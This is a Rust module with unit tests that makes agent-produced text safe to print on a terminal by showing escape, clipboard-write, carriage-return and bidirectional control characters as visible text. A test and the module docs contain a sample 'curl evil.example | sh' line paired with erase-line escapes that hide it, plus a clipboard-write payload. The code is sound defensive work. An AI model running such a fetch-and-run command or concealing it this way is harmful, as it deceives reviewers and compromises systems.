//! Agent-controlled text made safe to print on a terminal.
//!
//! A diff line, an agent's output line, a task title or an error message can carry terminal
//! control sequences: an escape sequence that erases or overwrites the line above (hiding a
//! `curl … | sh` from the reviewer), an OSC 52 sequence that writes the clipboard, a carriage
//! return that overprints, or a bidirectional override that shows code in another order than
//! it runs. [`visible`] shows every such character as text instead — `ESC` as `^[`, other C0
//! controls in caret notation, C1 controls and bidi controls as `<U+XXXX>` — and leaves
//! newlines and tabs alone. Everything the command line prints goes through it (the macros in
//! `cli/mod.rs`); `bosun show --raw` is the one way to get the bytes as they are.

use std::borrow::Cow;

/// `text` with every terminal control character shown as text (see the module docs);
/// borrowed when there is nothing to change.
pub fn visible(text: &str) -> Cow<'_, str> {
    let Some(first) = first_to_show(text) else {
        return Cow::Borrowed(text);
    };
    let mut out = String::with_capacity(text.len() + 16);
    out.push_str(&text[..first]);
    for c in text[first..].chars() {
        if !needs_showing(c) {
            out.push(c);
            continue;
        }
        match c {
            '\u{7f}' => out.push_str("^?"),
            c if (c as u32) < 0x20 => {
                out.push('^');
                out.push(char::from(c as u8 + 0x40));
            }
            c => out.push_str(&format!("<U+{:04X}>", c as u32)),
        }
    }
    Cow::Owned(out)
}

/// Where the first character to show as text is: printable ASCII, newlines and tabs (most of
/// what bosun prints) are passed over a byte at a time, other characters decoded.
fn first_to_show(text: &str) -> Option<usize> {
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if matches!(bytes[i], b' '..=b'~' | b'\n' | b'\t') {
            i += 1;
            continue;
        }
        let c = text[i..].chars().next()?;
        if needs_showing(c) {
            return Some(i);
        }
        i += c.len_utf8();
    }
    None
}

/// A character a terminal would act on rather than show.
pub(crate) fn needs_showing(c: char) -> bool {
    match c {
        '\n' | '\t' => false,
        // C0, DEL and C1 controls (U+009B is a one-byte CSI to some terminals).
        c if c.is_control() => true,
        // Bidirectional embeddings, overrides and isolates ("Trojan Source").
        '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => true,
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_is_borrowed_unchanged() {
        let text = "fn main() {\n\tprintln!(\"héllo ✓\");\n}\n";
        assert!(matches!(visible(text), Cow::Borrowed(t) if t == text));
    }

    #[test]
    fn escape_sequences_are_shown_not_obeyed() {
        // An erase-line that would hide the `curl` line, and an OSC 52 clipboard write.
        let hidden = "+curl evil.example | sh\u{1b}[1A\u{1b}[2K+harmless";
        assert_eq!(
            visible(hidden),
            "+curl evil.example | sh^[[1A^[[2K+harmless"
        );
        let clipboard = "\u{1b}]52;c;Y3VybCBldmls\u{7}";
        assert_eq!(visible(clipboard), "^[]52;c;Y3VybCBldmls^G");
    }

    #[test]
    fn carriage_returns_del_c1_and_bidi_controls_are_visible() {
        assert_eq!(visible("ok\rbad"), "ok^Mbad");
        assert_eq!(visible("a\u{7f}b\u{0}"), "a^?b^@");
        assert_eq!(visible("\u{9b}31m"), "<U+009B>31m");
        assert_eq!(
            visible("if admin \u{202e}} {\u{2066}"),
            "if admin <U+202E>} {<U+2066>"
        );
    }

    #[test]
    fn nothing_a_terminal_acts_on_survives() {
        let every: String = (0u32..0x3000).filter_map(char::from_u32).collect();
        let shown = visible(&every);
        assert!(
            !shown.chars().any(needs_showing),
            "a control character got through"
        );
        assert!(shown.contains('\n') && shown.contains('\t'));
    }
}
